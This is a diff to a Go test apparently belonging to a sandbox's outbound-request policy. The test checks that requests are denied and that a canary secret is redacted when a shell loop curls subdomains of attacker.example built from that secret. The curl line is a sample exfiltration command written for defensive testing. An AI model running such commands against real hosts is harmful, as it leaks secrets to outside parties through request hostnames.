@@ -217,7 +217,7 @@ func TestAttack75_RefusalsAsAChannel(t *testing.T) {
 		h.acme(u)
 		h.keep("generic", "other", nil, map[string]string{"value": "another-canary-77x2qm"}, policy.Policy{})
 		res := mustRun(t, e, sh(`for h in another-canary-77x2qm another-canary-77x2qn x; do curl -sS --max-time 10 https://$h.attacker.example/; done 2>/dev/null; `+curl+`-X TRACE `+u.url("/another-canary-77x2qm")+` >/dev/null; true`))
-		if text := fmt.Sprint(res.Denials); len(res.Denials) != 4 || strings.Contains(text, "another-canary-77x2qm") || !strings.Contains(text, "[redacted:other.value].attacker.example") || !strings.Contains(text, "77x2qn") || res.Redactions == 0 {
+		if text := fmt.Sprint(res.Denials); len(res.Denials) != 4 || strings.Contains(text, "another-canary-77x2qm") || !strings.Contains(text, "[redacted].attacker.example") || strings.Contains(text, "other.value") || !strings.Contains(text, "77x2qn") || res.Redactions == 0 {
 			t.Errorf("%q %+v", text, res)
 		}
 		if spent := h.spent["lse_acme"]; spent != res.Redactions {
